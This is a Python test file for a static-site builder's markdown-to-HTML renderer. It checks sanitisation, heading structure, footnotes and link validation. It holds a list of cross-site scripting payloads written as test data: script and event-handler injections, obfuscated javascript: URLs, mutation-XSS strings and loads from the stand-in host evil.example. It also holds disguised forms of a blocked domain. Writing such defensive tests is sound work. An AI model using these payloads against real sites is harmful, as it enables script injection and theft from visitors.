import itertools
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stillhere.build import bodies
from stillhere.build.bodies import body_html
from stillhere.content.model import Text
from stillhere.errors import Finding

HOSTS = frozenset({"bad.example"})


def page(path: str) -> str | None:
    return "../case/li.html" if path == "/case/li" else None


def body(source: str):
    findings: list[Finding] = []
    html = body_html(source, Text("en", "T", source, "f.md", body_line=4), page, HOSTS, findings)
    return html, [(f.line, f.code) for f in findings]


class Active(HTMLParser):
    """Collects what a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        known = "p br hr h2 h3 h4 h5 h6 em strong del s sub sup blockquote ul ol li a code pre"
        if tag not in (known + " table thead tbody tr th td div").split():
            self.found.append(tag)
        for name, value in attrs:
            scheme = re.match(r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", re.sub(r"[\t\n\r]", "", value or "").lower())
            if name.startswith("on") or name in ("style", "src", "srcset"):
                self.found.append(name)
            if name == "href" and scheme and scheme[1] not in ("http", "https", "mailto"):
                self.found.append(value or "")


def active(html: str) -> list[str]:
    reader = Active()
    reader.feed(html)
    reader.close()
    return reader.found


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="x" onclick="alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import '//evil.example/x'</style>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "a" onmouseover="alert(1)")',
    '[x](https://a.example/"onmouseover=alert(1)//)',
    '<https://a.example/"onmouseover=alert(1)>',
    "![x](https://evil.example/pixel.gif)",
    '![x"onerror="alert(1)](x)',
    "`<script>`</code><script>alert(1)</script>",
    '```js"onload=alert(1)\n```',
    "|a|\n|:-:|\n|<script>alert(1)</script>|",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_comes_through(attack):
    assert active(body(attack)[0]) == []


@given(
    st.lists(
        st.one_of(st.sampled_from(ATTACKS), st.text(max_size=8), st.sampled_from("*_[]()<>`|\n\"'&#!")), max_size=8
    )
)
def test_nothing_active_comes_through_however_it_is_mixed(parts):
    assert active(body("".join(parts))[0]) == []


def test_the_watcher_of_these_tests_sees_what_is_active():
    assert active('<script>x</script><a href="java\tscript:x" onclick=y>') == ["script", "java\tscript:x", "onclick"]


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("他说**“人权”**很重要", "<p>他说<strong>“人权”</strong>很重要</p>"),
        ("**中文（括号）**后", "<p><strong>中文（括号）</strong>后</p>"),
        ("这是*“强调”*。", "<p>这是<em>“强调”</em>。</p>"),
        ("# A\n## B\n###### F", "<h2>A</h2>\n<h3>B</h3>\n<h4>F</h4>"),
        ("## A\n#### B\n## C", "<h2>A</h2>\n<h3>B</h3>\n<h2>C</h2>"),
        ("a ~~b~~", "<p>a <del>b</del></p>"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
        ("a & b < c", "<p>a &amp; b &lt; c</p>"),
    ],
)
def test_markdown_becomes_html(source, html):
    assert body(source) == (html + "\n", [])


def test_a_table_keeps_its_columns_aligned():
    html = body("|a|b|\n|:-|-:|\n|1|2|")[0]
    assert '<td class="right">2</td>' in html


@given(st.lists(st.integers(1, 6), max_size=12))
def test_headings_start_below_the_title_and_go_down_one_step_at_a_time(levels):
    html = body("\n\n".join("#" * level + " A" for level in levels))[0]
    found = [1, *(int(level) for level in re.findall(r"<h(\d)>", html))]
    assert len(found) == len(levels) + 1
    assert all(1 < after <= before + 1 for before, after in itertools.pairwise(found))


def test_a_footnote_leads_there_and_back():
    html, findings = body("a[^n]\n\n[^n]: note")
    assert findings == []
    targets = set(re.findall(r'href="#([^"]+)"', html))
    assert targets <= set(re.findall(r'id="([^"]+)"', html))
    assert len(targets) == 2


def test_a_page_of_the_site_is_linked_relatively():
    assert body("[Li](/case/li#top)") == ('<p><a href="../case/li.html#top" rel="noopener noreferrer">Li</a></p>\n', [])


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("a\n\n[x](/case/nobody)", "link-broken"),
        ("a\n\n[x](li.html)", "link-unusable"),
        ("a\n\n[x](../case/li)", "link-unusable"),
        ("a\n\n[x](//evil.example/)", "link-unusable"),
        ("a\n\n[x](ftp://a.example/)", "link-unusable"),
        ("a\n\n[x](https://bad.example/y)", "address-dangerous"),
        ("a\n\nwww.bad.example", "address-dangerous"),
        ("a\n\n[x](https://sub.bad.example/)", "address-dangerous"),
    ],
)
def test_a_link_that_cannot_be_is_named_with_its_line(source, code):
    assert body(source)[1] == [(6, code)]


@pytest.mark.parametrize(
    "url",
    [
        "http://BAD.EXAMPLE/",
        "http://www.bad.example",
        "http://x@bad.example/",
        "http://bad&#46;example/",
        "http://bad.example./",
        "http://bad.example:80/",
        "http://bad%2Eexample/",
        "http://b%61d.example/",
        "http://bad。example/",
        "http://bad．example/",
        "http://ｂａｄ.example/",
        "http://b\u00adad.example/",
        "//bad.example/",
        "http:\\\\\\\\bad.example/",
        "http:bad.example",
    ],
)
def test_a_dangerous_address_in_disguise_is_never_linked(url):
    html, findings = body(f"[x]({url})")
    assert findings or "href" not in html


@pytest.mark.parametrize("url", ["http://[", "http://[x]/", "http://a℀b/", "http://a:b:c/", "http://"])
def test_an_address_that_cannot_be_taken_apart_is_a_finding(url):
    html, findings = body(f"[x]({url})")
    assert findings or "href" not in html


@pytest.mark.parametrize(
    "source", ['`<a href="/x">`', '    <a href="/x">', 'say href="nowhere" here', 'a href="/case/li"']
)
def test_words_about_links_are_no_links(source):
    html, findings = body(source)
    assert findings == []
    assert "li.html" not in html


def test_a_mail_address_and_another_site_may_be_linked_without_telling_where_the_reader_comes_from():
    html, findings = body("[m](mailto:a@b.example) [s](https://b.example/?q=1&r=2)")
    assert findings == []
    assert html.count('rel="noopener noreferrer"') == 2
    assert "https://b.example/?q=1&amp;r=2" in html


class Structure(HTMLParser):
    """Every tag with its attributes, and all text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, ...]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, *(f"{name}={value}" for name, value in sorted(attrs))))

    def handle_data(self, data):
        self.text += data


PARTS = [
    "# A\n\n",
    "**b** ",
    "*c*\n\n",
    "- d\n",
    "1. e\n",
    "> f\n\n",
    "`g<h>` ",
    "[i](https://a.example/?j&k) ",
    "[l](/case/li) ",
    '[m](https://x.example "n") ',
    "[o](javascript:p) ",
    "<b onclick=q>r</b> ",
    "<script>s</script>\n\n",
    "|t|u|\n|-|-|\n|v|w|\n\n",
    "~~x~~ ",
    "---\n\n",
    'a & b < c > d " e\n\n',
    "“引”号\u00a0",
    "[^1] ",
    "\n\n[^1]: z\n\n",
    "    code\n\n",
    "```\n</p><p>\n```\n\n",
    "<https://f.example/%22%3E> ",
    "![g](https://h.example/i.png) ",
    "  \n",
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=12).map("".join))
def test_the_sanitiser_would_take_nothing_away_of_what_passes_without_it(source):
    """Whichever way a body went, the sanitiser over what was published changes nothing that a browser sees."""
    made = re.sub(r'<div class="[a-z]+"(?: tabindex="0")?>|</div>| class="(?:left|center|right)"', "", body(source)[0])
    again = Structure(bodies._library()[1](made))
    assert again.tags == Structure(made).tags
    assert again.text == Structure(made).text
